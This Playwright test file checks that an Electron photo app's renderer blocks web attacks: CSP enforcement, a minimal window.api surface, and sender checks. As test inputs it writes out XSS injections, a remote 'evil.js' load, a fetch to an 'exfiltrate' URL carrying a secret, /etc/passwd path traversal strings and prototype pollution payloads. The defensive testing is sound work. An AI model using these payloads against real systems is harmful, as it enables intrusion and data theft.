import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import { type AppUnderTest, CHROMIUM, launchApp, ROOT } from './support/bridge'

// Web content must not reach the system: the built renderer's CSP, the api surface, and the dispatcher's sender check,
// exercised in Debian's Chromium against the real main-process handlers. Electron's own navigation and window.open
// guards are asserted in tests/unit/foundation-electron-security.test.ts (they need the electron module).

interface Violation {
  directive: string
  blocked: string
}

async function freshPage(app: AppUnderTest): Promise<Page> {
  const page = await app.context.newPage()
  await page.goto(app.page.url())
  await page.evaluate(() => {
    const w = window as unknown as { __violations: Violation[] }
    w.__violations = []
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI })
    )
  })
  return page
}

const violations = (page: Page): Promise<Violation[]> =>
  page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations)

test.describe('renderer security in Chromium (CSP, api surface, senders)', () => {
  test.skip(!existsSync(CHROMIUM), `Chromium not found at ${CHROMIUM} (apt-get install chromium)`)
  test.skip(!existsSync(join(ROOT, 'out', 'renderer', 'index.html')), 'renderer not built: run npm run build')

  let app: AppUnderTest
  test.beforeAll(async () => {
    app = await launchApp()
  })
  test.afterAll(async () => {
    await app?.close()
  })

  test('the page ships a strict CSP: no inline script, no eval, nothing remote', async () => {
    const page = await freshPage(app)
    const csp = await page.evaluate(
      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? ''
    )
    expect(csp).toMatch(/default-src 'none'/)
    expect(csp).toMatch(/script-src 'self'(;|$)/)
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*|https?:/)
    expect(csp).toMatch(/object-src 'none'/)
    expect(csp).toMatch(/base-uri 'none'/)
  })

  test('injected inline script, inline handlers, javascript: URLs and string timers do not run', async () => {
    const page = await freshPage(app)
    const ran = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>
      const s = document.createElement('script')
      s.textContent = 'window.__inline = true'
      document.body.appendChild(s)
      const img = document.createElement('img')
      img.setAttribute('onerror', 'window.__handler = true')
      img.src = 'data:image/png;base64,AAAA'
      document.body.appendChild(img)
      const a = document.createElement('a')
      a.href = 'javascript:window.__jsurl = true'
      document.body.appendChild(a)
      a.click()
      ;(setTimeout as unknown as (code: string, ms: number) => void)('window.__timer = true', 0)
      await new Promise((r) => setTimeout(r, 200))
      return {
        inline: w.__inline === true,
        handler: w.__handler === true,
        jsurl: w.__jsurl === true,
        timer: w.__timer === true
      }
    })
    expect(ran).toEqual({ inline: false, handler: false, jsurl: false, timer: false })
    const v = await violations(page)
    expect(v.filter((x) => x.directive.startsWith('script-src')).length).toBeGreaterThanOrEqual(3)
  })

  test("eval and new Function are blocked in the page (a same-origin script, as the app's own code runs)", async () => {
    const page = await freshPage(app)
    // Playwright's evaluate() is DevTools eval, which Chromium exempts from CSP; so serve a probe from the app's own
    // origin (allowed by script-src 'self') and let it try eval in the page realm.
    const probe = `window.__probe = (() => {
      const r = {}
      try { (0, eval)('1 + 1'); r.eval = 'ran' } catch (e) { r.eval = e.name }
      try { new Function('return 1')(); r.fn = 'ran' } catch (e) { r.fn = e.name }
      return r
    })()`
    await page.route('**/__probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: probe }))
    await page.evaluate(async () => {
      const s = document.createElement('script')
      s.src = '/__probe.js'
      await new Promise((res, rej) => {
        s.onload = res
        s.onerror = rej
        document.head.appendChild(s)
      })
    })
    const r = await page.evaluate(() => (window as unknown as { __probe: unknown }).__probe)
    expect(r).toEqual({ eval: 'EvalError', fn: 'EvalError' })
    expect((await violations(page)).some((v) => v.directive === 'script-src' && v.blocked === 'eval')).toBe(true)
  })

  test('remote scripts, fetches, frames and objects are refused', async () => {
    const page = await freshPage(app)
    const r = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>
      const s = document.createElement('script')
      s.src = 'http://127.0.0.1:9/evil.js'
      s.onload = () => (w.__remote = true)
      document.head.appendChild(s)
      const fetched = await fetch('http://127.0.0.1:9/exfiltrate?d=secret').then(
        () => 'sent',
        (e: Error) => e.name
      )
      const f = document.createElement('iframe')
      f.src = 'http://127.0.0.1:9/'
      document.body.appendChild(f)
      const o = document.createElement('object')
      o.data = 'http://127.0.0.1:9/x.swf'
      document.body.appendChild(o)
      await new Promise((res) => setTimeout(res, 300))
      return { remote: w.__remote === true, fetched }
    })
    expect(r).toEqual({ remote: false, fetched: 'TypeError' })
    const v = await violations(page)
    const directives = new Set(v.map((x) => x.directive))
    for (const d of ['script-src-elem', 'connect-src', 'frame-src', 'object-src']) expect([...directives]).toContain(d)
    // The iframe element exists, but nothing from that origin loaded into it.
    for (const f of page.frames().slice(1)) expect(f.url()).not.toMatch(/^http:\/\/127\.0\.0\.1:9/)
  })

  test('window.api is only the named operations: no ipcRenderer, require, process or generic send', async () => {
    const page = await freshPage(app)
    const surface = await page.evaluate(() => {
      const w = window as unknown as Record<string, unknown>
      const api = w.api as Record<string, unknown>
      return {
        keys: Object.keys(api).sort(),
        allFunctions: Object.values(api).every((v) => typeof v === 'function'),
        globals: ['ipcRenderer', 'require', 'process', 'Buffer', 'module', 'electron'].filter((k) => k in w)
      }
    })
    expect(surface.allFunctions).toBe(true)
    expect(surface.globals).toEqual([])
    expect(surface.keys).not.toContain('invoke')
    expect(surface.keys).not.toContain('send')
    expect(surface.keys).toContain('openDroppedPhoto')
  })

  test('page script sending paths, tricks and pollution through window.api gets INVALID_REQUEST / FORBIDDEN', async () => {
    const page = await freshPage(app)
    const codes = await page.evaluate(async () => {
      type R = { ok: boolean; error?: { code: string } }
      const api = (window as unknown as { api: Record<string, (req: unknown) => Promise<R>> }).api
      const code = async (p: Promise<R>): Promise<string> => {
        const r = await p
        return r.ok ? 'OK' : r.error!.code
      }
      return [
        await code(api.getPreview({ photoId: '../../../../etc/passwd', variant: 'original' })),
        await code(api.getPreview({ photoId: '%2e%2e%2fetc%2fpasswd', variant: 'original' })),
        await code(api.getPreview({ photoId: 'p0123456789abcdef\u0000', variant: 'original' })),
        await code(api.getPreview({ photoId: 'p0123456789abcdef', variant: 'original' })),
        await code(api.listFaces(JSON.parse('{"photoId":"p0123456789abcdef","__proto__":{"polluted":true}}'))),
        await code(api.updateSettings({ theme: 'dark', constructor: { prototype: { polluted: true } } })),
        await code(api.getPreview({ photoId: 'p0123456789abcdef', variant: 'original', maxSide: 1e300 }))
      ]
    })
    // Playwright's binding serialises away an own "__proto__" key (Electron's structured clone keeps it and the
    // strict schema refuses it: see tests/reliability/reliability-ipc-fuzz.test.ts); either way nothing gets through.
    const [a, b, c, d, polluted, ...rest] = codes
    expect([a, b, c, d, ...rest]).toEqual([
      'INVALID_REQUEST',
      'INVALID_REQUEST',
      'INVALID_REQUEST',
      'FORBIDDEN',
      'INVALID_REQUEST',
      'INVALID_REQUEST'
    ])
    expect(['INVALID_REQUEST', 'FORBIDDEN']).toContain(polluted)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })

  test('a page that is not the app (popup, navigated-away tab) cannot use the api', async () => {
    const page = await freshPage(app)
    // Plain Chromium lets the popup open (Electron denies it: see the unit test); it still may not call main.
    const [popup] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate(() => void window.open('about:blank', '_blank'))
    ])
    await popup.waitForLoadState()
    const fromPopup = await popup.evaluate(async () => {
      const api = (window as unknown as { api?: { appInfo(): Promise<{ ok: boolean; error?: { code: string } }> } }).api
      return api ? ((await api.appInfo()).error?.code ?? 'OK') : 'no api'
    })
    expect(['FORBIDDEN', 'no api']).toContain(fromPopup)
    await popup.close()

    const other = await app.context.newPage()
    await other.goto('data:text/html,<title>elsewhere</title>')
    const fromOther = await other.evaluate(async () => {
      const api = (window as unknown as { api?: { appInfo(): Promise<{ ok: boolean; error?: { code: string } }> } }).api
      return api ? ((await api.appInfo()).error?.code ?? 'OK') : 'no api'
    })
    expect(['FORBIDDEN', 'no api']).toContain(fromOther)
    await other.close()

    // The app page itself still works.
    const ok = await page.evaluate(
      async () => (await (window as unknown as { api: { appInfo(): Promise<{ ok: boolean }> } }).api.appInfo()).ok
    )
    expect(ok).toBe(true)
  })
})
